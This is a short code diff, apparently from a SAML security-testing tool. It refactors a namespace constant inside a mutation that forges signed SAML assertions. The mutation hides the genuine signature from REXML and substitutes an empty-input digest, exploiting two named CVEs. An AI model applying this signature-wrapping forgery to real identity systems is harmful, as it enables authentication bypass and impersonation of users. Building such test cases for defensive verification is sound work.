@@ -2,6 +2,7 @@
 
 import { createHash } from 'node:crypto';
 import type { Mutation } from '../protocol/types.ts';
+import { namespaces } from '../protocol/uris.ts';
 import { outerOf, setAttribute } from '../protocol/xml-text.ts';
 import { edit, editInner, first } from './elements.ts';
 import { victimTwin, withVictimContent } from './victim.ts';
@@ -36,8 +37,6 @@ export function signedInfoElsewhere(): Mutation {
   };
 }
 
-const dsig = 'http://www.w3.org/2000/09/xmldsig#';
-
 /**
  * The same for two parsers. REXML takes the attribute `h:xmlns` for a declaration of the default namespace and so does not see the
  * genuine Signature (CVE-2025-66567). The digest is that of nothing: a relative namespace name has no canonical form (CVE-2025-66568).
@@ -45,13 +44,13 @@ const dsig = 'http://www.w3.org/2000/09/xmldsig#';
 export function signedInfoHidden(): Mutation {
   return {
     afterSigning: (xml, facts) => {
-      const genuine = outerOf(xml, first(xml, 'Signature')).replace(` xmlns="${dsig}"`, '');
+      const genuine = outerOf(xml, first(xml, 'Signature')).replace(` xmlns="${namespaces.ds}"`, '');
       const hidden = `<h:Hidden xmlns:h="urn:samlproof:hidden" h:xmlns="urn:samlproof:other">${genuine}</h:Hidden>`;
       const forged = withVictimContent(xml, facts);
       const unreadable = setAttribute(forged, first(forged, 'Assertion'), 'xmlns:void', 'relative');
       const nothing = createHash('sha256').update('').digest('base64');
       const signed = editInner(unreadable, 'DigestValue', () => nothing);
-      return withExtensions(signed, `<Hidden xmlns="${dsig}">${hidden}</Hidden>`);
+      return withExtensions(signed, `<Hidden xmlns="${namespaces.ds}">${hidden}</Hidden>`);
     },
   };
 }
